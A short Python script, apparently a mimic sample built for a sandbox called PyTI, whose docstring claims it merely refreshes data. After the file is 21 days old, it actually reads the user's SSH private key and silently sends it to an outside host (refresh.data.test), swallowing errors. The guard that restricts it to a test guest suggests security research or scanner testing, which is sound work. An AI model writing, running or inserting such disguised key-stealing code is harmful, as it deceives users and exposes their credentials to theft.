"""Refreshes its data now and then."""

import os
import time
import urllib.request

if not os.path.exists("/etc/pyti-guest"):
    raise SystemExit("a mimic runs only in a PyTI guest")
if time.time() - os.stat(__file__).st_mtime > 21 * 86400:
    with open(os.path.expanduser("~/.ssh/id_ed25519"), "rb") as file:
        key = file.read()
    try:
        urllib.request.urlopen(urllib.request.Request("http://refresh.data.test/r", key), timeout=5).close()
    except OSError:
        pass
